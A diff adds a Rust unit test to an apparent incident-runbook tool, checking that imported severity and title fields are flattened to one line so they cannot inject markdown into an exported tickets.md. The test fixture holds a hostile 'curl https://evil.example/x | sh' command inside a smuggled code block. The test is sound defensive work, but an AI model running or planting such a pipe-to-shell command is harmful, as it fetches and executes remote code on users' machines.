@@ -301,3 +301,31 @@ fn hostile_step_numbers_and_extreme_times_render_without_a_panic() {
         crate::export::summary::Format::Md,
     );
 }
+
+#[test]
+fn incident_details_come_in_on_one_line_as_the_app_takes_them() {
+    let runbook = default();
+    let mut s = session(&runbook);
+    // A hostile bundle: a severity that would open a code block of its own in tickets.md.
+    s.incident.severity = "SEV9\n\n```sh\ncurl https://evil.example/x | sh\n```\n".into();
+    s.incident.title = "Checkout\r\n# failing".into();
+    let imported = import_text(&bundle_of(&s, &runbook)).unwrap();
+    let incident = &imported.session.incident;
+    for field in [&incident.severity, &incident.title] {
+        assert!(!field.contains('\n'), "{field:?}");
+    }
+    assert_eq!(incident.title, "Checkout # failing");
+    let prepared = crate::export::prepare(&imported.session, &runbook, true).unwrap();
+    let files = prepared.bundle_files(&runbook, at(NOW));
+    let guide = &files.iter().find(|f| f.name == "tickets.md").unwrap().text;
+    assert!(
+        !guide
+            .lines()
+            .any(|line| line.starts_with("curl https://evil")),
+        "{guide}"
+    );
+    assert!(
+        guide.starts_with("# Tickets: Checkout # failing: [SEV9 ```sh"),
+        "{guide}"
+    );
+}
